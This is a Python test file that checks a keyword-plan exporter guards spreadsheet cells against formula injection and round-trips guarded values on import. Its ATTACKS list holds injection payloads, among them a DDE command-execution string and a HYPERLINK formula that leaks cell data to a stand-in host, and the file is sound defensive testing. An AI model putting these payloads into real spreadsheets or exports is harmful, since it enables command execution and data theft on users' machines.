"""No exported text runs as a formula, and each is read back."""

import csv
import io
import re
from collections.abc import Callable
from typing import Any

import openpyxl
import pytest
from hypothesis import given
from hypothesis import strategies as st

from kr.planning.exporting import Export
from kr.planning.formula_safety import guard_with_apostrophe, guard_with_space, without_apostrophe
from kr.planning.plan_row import MatchType, PlanRow

ATTACKS = [
    "=1+1", "+1+1", "-1+1", "@SUM(A1)", "＝1+1", "＋1", "－1", "＠x", "=cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example/?"&A1,"x")', "shoes;=1+1", "shoes;+1;-1", "'=1+1", "''-5",
    "+running shoes", "-5 degree",
]  # fmt: skip
DANGEROUS = re.compile(r"[=+\-@\t\r＝＋－＠]")
TEXT_FORMATS = ["csv", "google_ads_editor", "microsoft_bulk", "google_keyword_planner"]


def cells_as_a_spreadsheet_sees_them(content: bytes, delimiter: str) -> list[str]:
    encoding = "utf-16" if content.startswith(b"\xff\xfe") else "utf-8-sig"
    return [
        cell
        for row in csv.reader(io.StringIO(content.decode(encoding), newline=""), delimiter=delimiter)
        for cell in row
    ]


@pytest.mark.parametrize("format", TEXT_FORMATS)
@pytest.mark.parametrize("attack", ATTACKS)
def test_no_cell_of_a_text_file_begins_like_a_formula_wherever_a_spreadsheet_splits_it(
    format: str, attack: str
) -> None:
    row = PlanRow(attack, attack.replace(";", ","), attack.replace(";", ","), MatchType.BROAD)
    content = b"".join(Export(format).chunks([row]))
    delimiters = "\t" if format == "google_keyword_planner" else ",;"
    for delimiter in delimiters:
        for cell in cells_as_a_spreadsheet_sees_them(content, delimiter):
            assert not DANGEROUS.match(cell), (delimiter, cell)


@pytest.mark.parametrize("attack", ATTACKS)
def test_every_text_of_a_workbook_is_text_and_stays_so_when_it_is_edited(attack: str) -> None:
    content = b"".join(Export("xlsx").chunks([PlanRow(attack)]))
    sheet = openpyxl.load_workbook(io.BytesIO(content)).active
    cell = sheet["A2"]
    assert cell.data_type == "s" and cell.value == attack
    assert bool(cell.quotePrefix) == bool(DANGEROUS.match(attack))


@pytest.mark.parametrize("format", [*TEXT_FORMATS, "xlsx", "jsonl"])
@pytest.mark.parametrize("keyword", [attack for attack in ATTACKS if ";" not in attack])
def test_a_keyword_that_looks_like_a_formula_survives_export_and_import(
    imported: Callable[..., Any], format: str, keyword: str
) -> None:
    content = b"".join(Export(format).chunks([PlanRow(keyword), PlanRow("next")]))
    assert imported(content).keywords == [keyword, "next"]


def test_numbers_are_not_guarded_so_that_a_spreadsheet_can_count_with_them() -> None:
    row = PlanRow("鲜花", metrics={"change_3m": -0.9})
    assert ",-90%," in b"".join(Export("csv").chunks([row])).decode()


@given(st.text(st.sampled_from("=+-@＝;\t\n' ab")))
def test_the_apostrophes_that_are_put_are_the_ones_that_are_taken(text: str) -> None:
    assert without_apostrophe(guard_with_apostrophe(text)) == text


@given(st.text(st.sampled_from("=+-@＝; ab")))
def test_a_space_before_a_sign_is_all_that_is_added(text: str) -> None:
    assert guard_with_space(text, is_keyword=True).replace(" ", "") == text.replace(" ", "")
    assert guard_with_space(text, is_keyword=False).removeprefix(" ") == text.removeprefix(" ")


def test_a_bare_formula_in_a_text_file_is_not_taken_but_a_guarded_one_is_text(imported: Callable[..., Any]) -> None:
    result = imported("Keyword,Bid\n=1+1,1\n'=1+1,1\n =2+2,1\n+red shoes,1\n")
    assert result.refused == [(2, "formula")]
    assert result.keywords == ["=1+1", "=2+2", "+red shoes"]
